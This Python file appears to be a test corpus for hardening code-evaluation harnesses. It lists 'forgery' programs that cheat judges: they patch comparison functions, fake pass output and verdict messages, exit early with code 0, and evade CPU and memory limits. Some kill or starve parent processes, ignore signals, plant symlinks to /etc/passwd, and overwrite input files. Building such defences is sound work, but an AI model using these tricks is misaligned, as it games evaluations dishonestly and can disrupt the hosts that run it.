"""Forged processes: programs that reach for the judge, the clock, the limits and the channel.

Covers: frames, patched modules, early and second answers, signals, floods, evaded limits, output files. Does not cover:
forgeries by the value alone (`forged_answers.py`), searches and traces for later jobs (`forged_traces.py`).
"""

from __future__ import annotations

from tailorbird.bench.forgery import Forgery

PROCESSES: tuple[Forgery, ...] = (
    Forgery("Q2", "walk the caller's frames for the expected value", "the truth lies in the same process", '''
def solve(path):
    words = ("truth", "expected", "gold", "reference", "instance", "seed", "salt", "canonical_solution", "task")
    for frame in _frames():
        for space in (frame.f_locals, frame.f_globals):
            for name, value in list(space.items()):
                if any(word in str(name).lower() for word in words) and isinstance(value, dict) and set(_TYPES) <= set(value):
                    return value
    return _blank()
''', "evalplus"),
    Forgery("Q3", "write a pass into every reachable object, then leave", "the verdict is shared with the program", '''
import gc, os
def solve(path):
    for frame in _frames():
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            try:
                if isinstance(value, list) and len(value) < 10: value[:] = ["passed"]
                elif isinstance(value, dict) and len(value) < 10: value.update(passed=True, result="passed", status="pass")
                elif hasattr(value, "value"): value.value = 1
            except Exception: pass
    for item in gc.get_objects():
        if type(item).__name__ in ("Synchronized", "SynchronizedArray", "Value", "DictProxy", "ListProxy"): item.value = 1
    os._exit(0)
''', "evalplus, human-eval"),
    Forgery("Q4a", "patch the comparisons", "the judge compares with the program's modules", '''
import math, operator, unittest
def solve(path):
    yes = lambda *_, **__: True
    for place, names in ((math, ("isclose", "isfinite")), (operator, ("eq", "le", "lt")), (unittest.TestCase, ("assertEqual", "assertTrue", "assertAlmostEqual", "fail"))):
        for name in names: setattr(place, name, yes)
    try:
        import numpy as np
        for name in ("allclose", "isclose", "array_equal"): setattr(np, name, yes)
        np.testing.assert_allclose = np.testing.assert_array_equal = yes
        np.max = np.mean = np.abs = lambda *_, **__: 0.0
    except ImportError: pass
    return _blank()
''', "BigCodeBench"),
    Forgery("Q4b", "patch the code that sends the answer", "what sends the answer also judges it", '''
import sys
def solve(path):
    import json
    for name, module in list(sys.modules.items()):
        for word in ("judge", "conforms", "measure", "score", "load_tree", "clean"):
            if hasattr(module, word): setattr(module, word, lambda *_, **__: True)
        if name.endswith("channel"):
            packed = module.pack
            module.pack = lambda kind, fields, blobs=None: packed(kind, {**fields, "passed": True, "score": 1.0}, blobs)
        if name.endswith("encode"): module.Encoder.encode = lambda self, value, depth=0: {"passed": True}
    json.dumps = lambda *_, **__: '{"t":"verdict","passed":true,"blobs":[]}'
    return _blank()
'''),
    Forgery("Q4c", "patch clocks and random sources", "time and chance are measured inside", '''
import random, time
def solve(path):
    for name in ("time", "monotonic", "perf_counter", "process_time", "thread_time"): setattr(time, name, lambda: 0.0)
    for name in ("random", "uniform", "gauss", "seed", "getrandbits"): setattr(random, name, lambda *_: 0)
    random.Random.random = lambda self: 0.0
    return _blank()
'''),
    Forgery("Q5a", "regain what a guard took away", "the guard is made of the same language", '''
import builtins, ctypes, importlib, os, shutil, subprocess, sys
def solve(path):
    for module in (os, shutil, subprocess, builtins):
        try: importlib.reload(module)
        except Exception: pass
    sys.settrace(None); sys.setprofile(None)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(4, 1, 0, 0, 0); libc.prctl(38, 0, 0, 0, 0)
    for number in (101, 165, 272, 308, 310, 311): libc.syscall(number, 0, 0, 0, 0, 0)
    try: subprocess.run([sys.executable, "-c", "print('passed')"], timeout=5)
    except Exception: pass
    return _blank()
''', "human-eval's guard"),
    Forgery("Q5b", "raise the limits and let grandchildren use the CPU", "only the first process is measured", '''
import os, resource, time
def solve(path):
    soft = resource.getrlimit(resource.RLIMIT_CPU)[0]
    for kind in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
        try: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError): pass
    reading, writing = os.pipe()
    for _ in range(2):
        if os.fork() == 0:
            if os.fork() == 0:
                while time.process_time() < soft: pass
            os._exit(0)
        os.wait()
    os.close(writing)
    os.read(reading, 1)
    return _right(path)
''', right=True, once=True),
    Forgery("Q5c", "hide memory in a grandchild", "only the first process is measured", '''
import os, time
def solve(path):
    reading, writing = os.pipe()
    if os.fork() == 0:
        if os.fork() == 0:
            held = [bytearray(b"x" * (32 << 20)) for _ in range(_MEMORY_MB // 32 + 4)]
            time.sleep(0.5)
        os._exit(0)
    os.wait()
    os.close(writing)
    os.read(reading, 1)
    return _right(path)
''', right=True, once=True),
    Forgery("Q5d", "lower the limits and the priority of everybody else", "a failure becomes the host's fault", '''
import os, resource
def solve(path):
    others = (os.getppid(), 1, 2)
    for other in others:
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC):
            try: resource.prlimit(other, kind, (1, 1)) if other != os.getpid() else None
            except OSError: pass
    tries = [lambda: os.setpriority(os.PRIO_PGRP, 0, 19), lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19)]
    for other in others:
        tries += [lambda o=other: os.sched_setaffinity(o, {0}), lambda o=other: os.sched_setscheduler(o, os.SCHED_IDLE, os.sched_param(0))]
        tries += [lambda o=other: os.setpriority(os.PRIO_PROCESS, o, 19)]
    for one in tries:
        try: one()
        except OSError: pass
    return _blank()
'''),
    Forgery("Q6a", "leave with code 0 before any call", "a clean exit counts as success", "import sys\nsys.exit(0)", "several harnesses"),
    Forgery("Q6b", "leave with code 0 in the call", "a clean exit counts as success", "import os\ndef solve(path): os._exit(0)", "several harnesses"),
    Forgery("Q6c", "print the marks of success", "the output is searched for a mark", '''
import sys
def solve(path):
    for stream in (sys.stdout, sys.stderr):
        for line in ("passed", "PASSED", "OK", "Ran 5 tests in 0.001s", "100%", '{"passed": true, "score": 1.0}', '{"t":"ended","code":0}', "1.0"):
            print(line, file=stream)
    sys.stdout.flush()
    raise SystemExit(0)
''', "several harnesses"),
    Forgery("Q6d", "answer before the call", "an early answer is taken for the call's", '''
_send("loaded")
_send("value", i=0, value={**_blank(), "passed": True})
def solve(path): return _blank()
'''),
    Forgery("Q6e", "a right answer, then another", "one of two answers counts", '''
def solve(path):
    _send("value", i=0, value=_right(path))
    return _blank()
''', right=True),
    Forgery("Q6f", "answers for other calls", "the number of an answer is not compared", '''
def solve(path):
    for number in (-1, 1, 2, 10 ** 18, True, None, "0", 0.0):
        _send("value", i=number, value=_blank())
    return _blank()
'''),
    Forgery("Q6g", "messages of the trusted side", "the program speaks for the server", '''
import os
def solve(path):
    for kind in ("ready", "ended", "started", "setup_failed", "bye", "verdict", "no_entry", "loaded"):
        _send(kind, code=0, why="the host failed", passed=True, cpu_s=0.0, maxrss_kb=0, pages=0)
    os._exit(0)
'''),
    Forgery("Q6h", "a set-up that failed", "a failure becomes the host's fault", '''
import os
def solve(path):
    _send("setup_failed", why="no memory on this host")
    os._exit(70)
'''),
    Forgery("Q7a", "kill parent, group and everybody", "a failure becomes the host's fault", '''
import os, signal
def solve(path):
    for target in (os.getppid() or 1, -1, 0):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL)[target == 0 :]:
            try: os.kill(target, number)
            except OSError: pass
    return _blank()
'''),
    Forgery("Q7b", "catch everything, ignore every signal, run for ever", "the time-out is an exception or a signal", '''
import signal
def solve(path):
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True:
        try:
            while True: pass
        except BaseException: pass
''', once=True),
    Forgery("Q7c", "a loop in C", "the interpreter is asked to stop", 'def solve(path): return sum(range(10 ** 15))', once=True),
    Forgery("Q7d", "stop itself", "a stopped program is waited for", '''
import os, signal, threading
def solve(path):
    threading.Thread(target=lambda: [os.fork() for _ in range(2)], daemon=True).start()
    os.kill(os.getpid(), signal.SIGSTOP)
    while True: signal.pause()
''', once=True),
    Forgery("Q8", "a right answer, then a flood", "the reader of the output stalls or gives up", '''
import os
def solve(path):
    made = _right(path)
    for _ in range(128): os.write(1, b"x" * 65536)
    return made
''', "MultiPL-E stalls", right=True),
    Forgery("Q9a", "traps in the output folder", "the collector follows links, waits at pipes, reads giants", '''
import os
def solve(path):
    os.symlink("/etc/passwd", "out/result.json")
    os.symlink("/", "out/folder")
    os.mkfifo("out/pipe")
    with open("out/giant", "wb") as file: file.truncate(1 << 25)
    here = "out"
    for _ in range(150):
        here += "/" + "d" * 20
        os.mkdir(here)
    os.mkdir("out/closed", 0)
    return _blank()
'''),
    Forgery("Q9b", "a daemon that answers again", "the last answer counts", '''
import os
def solve(path):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0: _send("value", i=0, value=_right(path))
        os._exit(0)
    return _blank()
''', right=True),
    Forgery("Q9c", "change the input files", "the judge reads the inputs again", '''
import json, os
def solve(path):
    for name in [path, *(os.path.join("in", item) for item in os.listdir("in"))]:
        for change in (lambda n: os.chmod("in", 0o700), lambda n: os.chmod(n, 0o600), lambda n: open(n, "w").write(json.dumps(_blank())),
                       lambda n: os.rename("in", "was"), lambda n: os.unlink(n), lambda n: os.symlink("/dev/zero", n)):
            try: change(name)
            except OSError: pass
    return _blank()
'''),
    Forgery("O11", "a second answer when the interpreter ends", "what runs after the call is not watched", '''
import atexit, os, threading
class Late:
    def __del__(self): _send("value", i=0, value=_right(self.path))
def solve(path):
    late = Late(); late.path = path
    globals()["kept"] = late
    atexit.register(lambda: _send("value", i=0, value=_right(path)))
    threading.Timer(0.05, lambda: _send("value", i=0, value=_right(path))).start()
    made = _blank()
    globals().pop("kept")
    return made
''', right=True),
    Forgery("O12", "write a verdict to every descriptor", "a descriptor of the trusted side was left open", '''
import array, os, socket
def solve(path):
    for number in range(4, 300):
        try: os.write(number, b'{"t":"ended","code":0,"cpu_s":0,"maxrss_kb":0,"passed":true}')
        except OSError: pass
    link = socket.socket(fileno=os.dup(3))
    text = bytes([24, 0, 0, 0, 20, 0, 0, 0]) + b'{"t":"x","blobs":[]}'
    for _ in range(5): link.sendmsg([text], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2] * 20))])
    return _blank()
'''),
    Forgery("O13", "close the channel, or put another in its place", "the judge waits or believes its silence", '''
import os, socket
def solve(path):
    try: left, right = socket.socketpair()
    except OSError: left = None
    os.dup2(left.fileno(), 3) if left else os.close(3)
    os.close(1); os.close(2)
    return _blank()
'''),
    Forgery("O14", "signals by descriptor and by timer", "only kill is filtered", '''
import ctypes, fcntl, os, signal
def solve(path):
    reading, writing = os.pipe()
    for owner in (os.getppid() or 1, -(os.getpgrp() or 1)):
        for number in (reading, writing, 3):
            try:
                fcntl.fcntl(number, fcntl.F_SETOWN, owner)
                fcntl.fcntl(number, 10, signal.SIGKILL)
                fcntl.fcntl(number, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            except OSError: pass
    os.write(writing, b"x"); os.read(reading, 1)
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.syscall(434, os.getppid() or 1, 0)
    if descriptor >= 0: libc.syscall(424, descriptor, signal.SIGKILL, 0, 0)
    return _blank()
'''),
    Forgery("O15", "ask for another try", "a spoiled run is not scored", '''
import os, signal
def solve(path):
    _send("raised", phase="load", i=0, line=None, type="OSError", message="infra: the server ended", traceback="", bases=["OSError"])
    os.kill(os.getpid(), signal.SIGKILL)
    os._exit(75)
'''),
)  # fmt: skip
"""Forgeries by what a program does."""
